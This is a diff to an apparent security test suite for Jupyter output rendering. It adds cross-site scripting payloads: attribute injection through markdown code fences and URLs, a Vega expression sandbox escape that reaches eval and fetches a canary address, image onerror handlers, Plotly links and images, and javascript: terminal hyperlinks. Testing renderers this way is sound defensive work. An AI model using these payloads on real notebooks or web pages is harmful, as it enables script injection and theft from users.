@@ -109,6 +109,9 @@ BUNDLES: dict[str, tuple[str, str]] = {
     "tex-control-markdown": ("text/markdown", '$$\\mmlToken{{mi}}[href="\x01javascript:{act4}"]{{x}}$$'),
     "tex-tab-markdown": ("text/markdown", '$$\\mmlToken{{mi}}[href="java\tscript:{act4}"]{{x}}$$'),
     "own-link": ("text/html", '<a href="{here}">l</a>'),
+    "fence-word": ("text/markdown", '~~~py" onmouseover="{act}" x="\nprint(1)\n~~~'),
+    "formula-in-address": ("text/markdown", 'see http://elsewhere.example/$" onmouseover="{act}" x="$ now'),
+    "formula-in-word": ("text/markdown", '```py$" onmouseover="{act}" x="$\nprint(1)'),
     "own-link-markdown": ("text/markdown", "[l]({here})"),
     "own-address": ("text/html", '<a href="http://127.0.0.1/?canary={name}">l</a>'),
     "own-address-odd": ("text/markdown", "[l](http://0x7f.1/?canary={name})"),
@@ -135,13 +138,18 @@ QUIET = {
     "pdf": "it has nothing in it that could act",
     "svg": "it is shown as a picture",
 }
+# What does not act in each JupyterLab and Notebook that we run in: their Mermaid is older, or not there.
+NEW = words("mermaid mermaid-mime")
 # With it the page loads no code of its own any more, which some of the others need.
 LAST = "base"
 # Widgets whose formula is a link.
 LINKED = words("label described checked htmlmath")
 
+# Of no form: a click on a picture that is an input of one would take the page elsewhere.
+BIND = {"input": "image", "src": "/x", "onerror": ACT.format("bind"), "form": "none"}
 VEGA = {
     "$schema": "https://vega.github.io/schema/vega/v5.json",
+    "signals": [{"name": "x", "value": "", "bind": BIND}],
     "width": 20,
     "height": 20,
     "usermeta": {"embedOptions": {"sourceHeader": "<script>window.pwned=['vega']</script>"}},
@@ -169,6 +177,36 @@ VEGA = {
     ],
 }
 
+# A function of the engine's, called in place of `toString`, calls what it takes for one of its own: `eval`.
+_WINDOW = "event.target.ownerDocument.defaultView"
+_CALLS = {
+    "'toString'": "event.dataflow._handler.on",
+    "eventName": f"{_WINDOW}.console.log",
+    "_handlers": f"{{undefined: 'fetch(`{HERE.format('expression')}`)'}}",
+    "_handlerIndex": f"{_WINDOW}.eval",
+}
+_MOVED = f"'' + {{{', '.join(f'{key}: {value}' for key, value in _CALLS.items())}}}"
+EXPRESSION = {
+    "$schema": "https://vega.github.io/schema/vega/v5.json",
+    "width": 20,
+    "height": 20,
+    "signals": [{"name": "x", "value": 0, "on": [{"events": "view:mousemove", "update": _MOVED}]}],
+}
+_CORNER = {"xref": "paper", "yref": "paper", "x": 0, "y": 1, "sizex": 1, "sizey": 1}
+_PICTURE = {**_CORNER, "source": AWAY.format("plotly-picture")}
+_SET = {"label": "set", "method": "relayout", "args": ["images[0].source", AWAY.format("plotly-button")]}
+PLOTLY = {
+    "data": [{"type": "scatter", "x": [1, 2], "y": [1, 2]}],
+    "layout": {
+        "images": [_CORNER, _PICTURE],
+        "title": {"text": f"<a href='{HERE.format('plotly-link')}' target='_self'>t</a>"},
+        "updatemenus": [{"type": "buttons", "buttons": [_SET]}],
+    },
+}
+MAP = {"data": [{"type": "scattermap", "lat": [1], "lon": [2]}], "layout": {"map": {"style": AWAY.format("map")}}}
+# What is seen of them where they act, beside "vega".
+CHARTED = words("bind expression map plotly-button plotly-link plotly-picture")
+
 SHOW = """
 import json
 from IPython.display import display
@@ -188,8 +226,11 @@ for name, mime, content, metadata in bundles:
 PRINT = """
 import json, sys
 from IPython.display import display
+display({{"application/vnd.vega.v5+json": json.loads({expression!r}), "text/plain": "expression"}}, raw=True)
 display({{"application/vnd.vega.v5+json": json.loads({vega!r}), "text/plain": "vega"}}, raw=True,
         metadata={{"application/vnd.vega.v5+json": {{"embed_options": {{"actions": {{"source": True}}}}}}}})
+for figure in {figures!r}:
+    display({{"application/vnd.plotly.v1+json": figure, "text/plain": "plotly"}}, raw=True)
 print("\\x1b[31mred\\x1b[0m \\x1b]8;;javascript:alert(1)\\x07link\\x1b]8;;\\x07 <img src=x onerror=\\"{act}\\">")
 print("javascript:{act} http://elsewhere.example/", file=sys.stderr)
 """
